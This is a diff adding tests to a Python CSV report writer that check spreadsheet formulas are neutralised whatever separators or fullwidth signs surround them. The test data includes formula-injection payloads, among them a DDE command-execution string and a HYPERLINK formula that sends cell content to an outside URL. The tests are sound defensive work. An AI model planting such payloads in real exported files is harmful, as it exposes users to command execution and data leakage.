@@ -12,7 +12,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from tsuishi.errors import UserError
-from tsuishi.report.csv_files import CsvFiles, text
+from tsuishi.report.csv_files import _FORMULA, CsvFiles, text
 
 COLUMNS: dict[str, list[Any]] = {
     "name": ["a", 'b, "c"'],
@@ -40,7 +40,52 @@ def as_read(value: object) -> str:
     words = {None: "", True: "true", False: "false"}
     if value is None or isinstance(value, bool):
         return words[value]
-    return str(value).replace("\r\n", "\n").replace("\r", "\n")
+    text = str(value).replace("\r\n", "\n").replace("\r", "\n")
+    return _FORMULA.sub("'", text) if isinstance(value, str) else text
+
+
+FORMULAS = [
+    "=1+1",
+    "+1",
+    "-1+1",
+    "@SUM(1)",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://x?"&A1)',
+    "＝1",
+    "＋1",
+    "－1",
+    "＠x",
+]
+AROUND = [
+    "{}",
+    " {}",
+    "\t{}",
+    "\r{}",
+    "\n{}",
+    "\u00a0{}",
+    '"{}',
+    "'{}",
+    "\"' {}",
+    "a;{}",
+    "a; {}",
+    'a;"{}',
+    "a\t{}",
+    "a\n{}",
+]
+
+
+@pytest.mark.parametrize("around", AROUND, ids=range(len(AROUND)))
+def test_text_is_no_formula_whatever_separates_cells(around: str) -> None:
+    for formula in FORMULAS:
+        written = text({"a": ["first"], "b": [around.format(formula)]})
+        for delimiter in (",", ";", "\t"):
+            found = [cell for row in csv.reader(io.StringIO(written), delimiter=delimiter) for cell in row]
+            assert not [cell for cell in found if cell.strip().lstrip('"').strip()[:1] in set("=+-@＝＋－＠")], written
+
+
+def test_numbers_stay_numbers_and_text_in_which_there_is_a_sign_stays_as_it_is() -> None:
+    assert text({"a": [-1.5, -2, 1e-05], "b": ["a-b", "a = b", "x@y"]}) == "a,b\n-1.5,a-b\n-2,a = b\n1e-05,x@y\n"
+    assert text({"mixed": [-1, "-1", None]}) == "mixed\n-1\n'-1\n\n"
 
 
 @given(st.lists(st.tuples(st.text(), st.one_of(st.none(), st.booleans(), st.integers(), st.text()))))
